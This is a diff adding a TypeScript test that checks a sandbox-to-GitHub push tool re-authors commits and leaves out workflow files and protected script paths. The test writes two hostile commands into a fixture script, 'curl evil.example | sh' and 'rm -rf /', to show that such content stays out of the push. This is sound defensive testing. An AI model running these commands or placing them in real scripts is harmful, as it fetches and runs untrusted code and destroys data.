@@ -306,6 +306,76 @@ describe("pushSandboxCommits", () => {
     );
   });
 
+  it("leaves protected paths out and re-authors commits, then pushes on from both bases", async () => {
+    const dir = await cloneInSandbox();
+    const branch = "ship/left-out";
+    const push = (remoteBase: string, localBase: string) =>
+      pushSandboxCommits({
+        author: bob,
+        sandbox,
+        repoDir: dir,
+        octokit: writer(),
+        owner,
+        repo,
+        branch,
+        remoteBase,
+        localBase,
+        protectedPaths: ["scripts/**"],
+      });
+    // Committed in the sandbox under another name, with a workflow and a protected script.
+    await inSandbox("mkdir -p .GitHub/Workflows scripts", dir);
+    await sandbox.files.write(`${dir}/.GitHub/Workflows/pwn.yml`, "on: push\n");
+    await sandbox.files.write(`${dir}/scripts/ci.sh`, "curl evil.example | sh\n");
+    await sandbox.files.write(`${dir}/notes.md`, "# Notes\n");
+    await inSandbox(
+      "git add -A && git -c user.name=octocat -c user.email=octocat@github.com commit -qm 'Notes'",
+      dir,
+    );
+    const first = await push(mainSha, mainSha);
+    const localFirst = (await inSandbox("git rev-parse HEAD", dir)).stdout.trim();
+    expect(first).toMatchObject({
+      localHead: localFirst,
+      files: ["notes.md"],
+      leftOut: [
+        { path: ".GitHub/Workflows/pwn.yml", why: "workflow" },
+        { path: "scripts/ci.sh", why: "protected" },
+      ],
+      shasMatch: false,
+      branch: "created",
+    });
+
+    // A commit that changes only protected paths puts nothing on GitHub.
+    await sandbox.files.write(`${dir}/scripts/ci.sh`, "rm -rf /\n");
+    const onlyProtected = await commitInSandbox(dir, "Only the script");
+    const none = await push(first.headSha, first.localHead);
+    expect(none).toMatchObject({
+      headSha: first.headSha,
+      localHead: onlyProtected,
+      commits: [],
+      leftOut: [{ path: "scripts/ci.sh", why: "protected" }],
+      branch: "unchanged",
+    });
+
+    // The next push goes on top of GitHub's commit, from the sandbox's.
+    await sandbox.files.write(`${dir}/notes.md`, "# Notes\n\nMore.\n");
+    await inSandbox("git mv .GitHub/Workflows/pwn.yml moved.yml", dir);
+    await commitInSandbox(dir, "More notes");
+    const second = await push(none.headSha, none.localHead);
+    expect(second).toMatchObject({
+      files: ["moved.yml", "notes.md"],
+      leftOut: [{ path: ".GitHub/Workflows/pwn.yml", why: "workflow" }],
+      branch: "updated",
+    });
+    const host = await cloneOnHost(branch);
+    expect(await gitOnHost(["log", "--format=%an <%ae> %cn <%ce>", `${mainSha}..HEAD`], host)).toBe(
+      "Bob Builder <bob@example.com> Bob Builder <bob@example.com>\nBob Builder <bob@example.com> Bob Builder <bob@example.com>",
+    );
+    expect(await gitOnHost(["diff", "--name-only", mainSha, "HEAD"], host)).toBe(
+      "moved.yml\nnotes.md",
+    );
+    expect(await readFile(path.join(host, "notes.md"), "utf8")).toBe("# Notes\n\nMore.\n");
+  });
+
   it("says when GitHub's ids differ, and the sandbox can adopt them and push on", async () => {
     const dir = await cloneInSandbox();
     await sandbox.files.write(`${dir}/README.md`, "# encoded\n");
